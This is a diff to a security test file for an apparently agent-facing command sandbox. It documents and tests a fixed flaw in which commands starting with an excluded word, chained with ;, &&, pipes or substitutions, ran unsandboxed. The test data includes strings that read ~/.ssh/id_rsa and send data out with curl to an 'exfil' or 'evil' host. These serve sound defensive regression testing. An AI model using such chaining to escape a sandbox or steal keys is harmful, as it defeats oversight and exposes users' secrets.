@@ -22,12 +22,20 @@
  *           sandbox. Now every word of every string and template literal that names an existing
  *           script (a JavaScript or TypeScript module, a shell, Python, Ruby, Perl or PHP script),
  *           from the module's folder or the config's, is pinned with the config.
+ * G3 FIXED  `sandbox.excludedCommands` was matched on the start of the command's text: with
+ *           `excludedCommands: ["echo"]` (in practice `docker`, `git push`), `echo hi; cat ~/.ssh/id_rsa`
+ *           or `echo hi && curl …` ran whole outside the sandbox, so under bypassPermissions with the
+ *           sandbox on any command could read the hidden home folder and reach the network by
+ *           starting with an excluded word. Now a command is excluded only when it is one simple
+ *           command: text with a list, pipe, background, substitution or line break runs sandboxed.
  */
 import { execFileSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { scanModuleSource } from "../../loader/module-scan";
+import { isExcluded } from "../../plugins/sandbox/config";
+import { outputs, recordingServer, runBash, SKIP } from "../sandbox/helpers";
 import { startProviderServer } from "../../src/testing/index";
 import { runCli } from "../helpers/project";
 import { attackBench } from "./attack-bench";
@@ -207,5 +215,57 @@ describe("G2: a script a trusted config runs by a literal name that does not sta
     expect(paths).toEqual(expect.arrayContaining(["lib/a.mjs", "b.ts", "./c.cjs"]));
     expect(paths).not.toContain("hello");
     expect(paths).not.toContain("zod");
+  });
+});
+
+describe.skipIf(SKIP)("G3: a command that starts with an excluded word runs outside the sandbox whole", () => {
+  it("bypassPermissions, the sandbox on, excludedCommands: [echo]: the rest of the text stays sandboxed", async () => {
+    const ws = realpathSync(mkdtempSync(join("/tmp", "ubq-rt5g-ws-")));
+    const home = realpathSync(mkdtempSync(join("/tmp", "ubq-rt5g-home-")));
+    const saved = process.env.HOME;
+    process.env.HOME = home;
+    const net = await recordingServer();
+    try {
+      mkdirSync(join(home, ".ssh"));
+      writeFileSync(join(home, ".ssh", "id_rsa"), "RT5G-PRIVATE-KEY\n");
+      const messages = await runBash(
+        [
+          "echo hi; cat ~/.ssh/id_rsa",
+          `echo hi && curl -s http://127.0.0.1:${net.port}/exfil`,
+          "echo hi | cat ~/.ssh/id_rsa",
+          "echo $(cat ~/.ssh/id_rsa)",
+          "echo plain",
+        ],
+        { cwd: ws, sandbox: { excludedCommands: ["echo"] }, permissionMode: "bypassPermissions" },
+      );
+      const out = outputs(messages);
+      for (const id of ["c0", "c2", "c3"]) expect(out[id]!.content, id).not.toContain("RT5G-PRIVATE-KEY");
+      expect(net.hits).toEqual([]);
+      expect(out.c4!.content).toContain("plain");
+    } finally {
+      net.server.close();
+      if (saved === undefined) delete process.env.HOME;
+      else process.env.HOME = saved;
+      rmSync(ws, { recursive: true, force: true });
+      rmSync(home, { recursive: true, force: true });
+    }
+  });
+
+  it("isExcluded: one simple command only", () => {
+    expect(isExcluded("docker ps -a", ["docker"])).toBe(true);
+    expect(isExcluded('docker run -e "A=b" alpine', ["docker"])).toBe(true);
+    for (const text of [
+      "docker ps; curl evil",
+      "docker ps && curl evil",
+      "docker ps || curl evil",
+      "docker ps | sh",
+      "docker ps & curl evil",
+      "docker ps\ncurl evil",
+      "docker ps $(curl evil)",
+      "docker ps `curl evil`",
+      "docker ps <(curl evil)",
+      'docker run "$(curl evil)"',
+    ])
+      expect(isExcluded(text, ["docker"]), text).toBe(false);
   });
 });
